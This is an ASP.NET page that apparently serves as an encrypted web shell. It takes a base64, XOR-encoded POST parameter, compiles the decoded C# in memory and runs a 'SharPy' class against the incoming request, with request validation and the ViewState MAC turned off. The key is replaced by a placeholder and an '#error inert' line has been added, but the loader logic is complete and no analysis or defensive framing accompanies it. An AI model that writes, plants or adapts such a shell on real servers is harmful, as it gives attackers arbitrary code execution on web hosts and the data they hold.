<%@ Page Language="C#" trace="false" EnableViewStateMac="false" validateRequest="false" %>
<script runat="server">
#error inert
protected void Page_Load(object sender, EventArgs e)
{
    string p = "elided-key";
    string r = Request.Form["data"];
    byte[] a = System.Text.Encoding.UTF8.GetBytes(p);
    byte[] c = System.Convert.FromBase64String(r);
    byte[] d = new byte[c.Length];
    for (int i = 0; i < c.Length; i++) d[i] = (byte)(c[i] ^ a[i % a.Length]);
    string code = System.Text.Encoding.UTF8.GetString(d);
    var par = new System.CodeDom.Compiler.CompilerParameters();
    par.GenerateInMemory = true;
    par.ReferencedAssemblies.Add("System.dll");
    var res = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(par, code);
    object o = res.CompiledAssembly.CreateInstance("SharPy");
    Response.Write(o.GetType().GetMethod("Run").Invoke(o, new object[] { p, Request }));
}
</script>
